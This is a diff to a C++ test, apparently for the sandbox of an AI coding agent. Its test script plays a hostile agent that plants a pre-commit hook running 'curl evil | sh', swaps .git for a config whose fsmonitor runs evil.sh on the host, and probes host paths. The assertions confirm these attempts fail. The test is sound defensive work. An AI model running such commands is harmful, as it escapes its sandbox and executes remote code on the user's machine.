@@ -149,6 +149,10 @@ private Q_SLOTS:
         const QString script =
             QStringLiteral(
                 "cat /project/README.md; echo agent-wrote > /project/out.txt; "
+                // The next try: the parent of the read-only .git/config renamed away, a new .git
+                // with a config of the agent's (an fsmonitor runs on the host's next git status).
+                "mv /project/.git /project/.git-moved 2>/dev/null; mkdir -p /project/.git; "
+                "printf '[core]\\n\\tfsmonitor = /project/evil.sh\\n' > /project/.git/config 2>/dev/null; "
                 "mkdir -p /project/.git/hooks && echo 'curl evil | sh' > /project/.git/hooks/pre-commit "
                 "&& chmod +x /project/.git/hooks/pre-commit; "
                 "if [ -e %1 ]; then echo host-path-visible; fi; "
@@ -175,6 +179,7 @@ private Q_SLOTS:
         QVERIFY2(readFile(project + QStringLiteral("/out.txt")) == "agent-wrote\n",
                  QByteArray(r.describe() + "\n--- events\n" + eventsText).constData());
         QVERIFY(!QFileInfo::exists(project + QStringLiteral("/.git/hooks/pre-commit")));
+        QCOMPARE(readFile(project + QStringLiteral("/.git/config")), QByteArray("[core]\n\tbare = false\n"));
         QCOMPARE(readFile(project + QStringLiteral("/README.md")), QByteArray("from this machine\n"));
         QCOMPARE(readFile(project + QStringLiteral("/.env")), QByteArray("SECRET=never-sent\n"));
 
